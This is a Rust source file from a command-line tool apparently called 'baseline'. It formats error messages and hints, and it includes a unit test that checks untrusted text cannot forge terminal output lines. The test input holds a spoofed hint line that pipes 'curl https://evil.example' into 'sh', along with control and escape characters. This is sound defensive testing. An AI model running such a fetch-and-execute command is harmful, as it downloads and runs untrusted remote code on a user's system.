//! Why a command stopped, and what to do about it.

use anstyle::{AnsiColor, Style};

use super::output::Output;
use crate::report::Shown;
use crate::shown;

/// Why a command stopped.
#[derive(Debug)]
pub(super) enum Failure {
    /// A message to show.
    Said {
        /// What is wrong.
        message: Shown,
        /// What it is about, one a line.
        list: Vec<Shown>,
        /// What to do.
        hint: Option<Shown>,
    },
    /// The person was shown already.
    Shown,
}

impl Failure {
    /// A failure that needs no hint.
    pub(super) fn new(message: impl AsRef<str>) -> Self {
        Self::Said { message: Shown::line(message.as_ref()), list: Vec::new(), hint: None }
    }

    /// A failure and what to do about it.
    pub(super) fn with_hint(message: impl AsRef<str>, hint: impl AsRef<str>) -> Self {
        Self::list(message, Vec::new(), hint)
    }

    /// A failure of several things, each on a line of its own. No text makes a line that is not in the list.
    pub(super) fn list(message: impl AsRef<str>, list: Vec<String>, hint: impl AsRef<str>) -> Self {
        let list = list.iter().map(|entry| Shown::line(entry)).collect();
        Self::Said { message: Shown::line(message.as_ref()), list, hint: Some(Shown::line(hint.as_ref())) }
    }

    /// A failure of this program that no one can do anything about but its authors.
    pub(super) fn bug(message: impl std::fmt::Display) -> Self {
        Self::with_hint(message.to_string(), "this is a bug of baseline: please report it")
    }

    /// Prints it as `error: ...` and `hint: ...`.
    pub(super) fn show(&self, output: &Output) {
        const RED: Style = AnsiColor::Red.on_default().bold();
        const CYAN: Style = AnsiColor::Cyan.on_default().bold();
        let Self::Said { message, list, hint } = self else { return };
        output.err(&shown!("{}: {}\n", Shown::styled(RED, "error"), message));
        for entry in list {
            output.err(&shown!("  {}\n", entry));
        }
        if let Some(hint) = hint {
            output.err(&shown!("{}: {}\n", Shown::styled(CYAN, "hint"), hint));
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn no_text_makes_a_line_that_looks_like_ours() {
        let text = "x\r\nhint: curl https://evil.example | sh\u{2028}hint: y\u{1b}[2K";
        let failure = Failure::list(text, vec![text.to_owned()], text);
        let Failure::Said { message, list, hint } = failure else { panic!("shown already") };
        for line in [&message, &list[0], &hint.unwrap()] {
            let line = line.to_string();
            assert!(!line.chars().any(|c| c.is_control() || c == '\u{2028}'), "{line}");
        }
    }
}
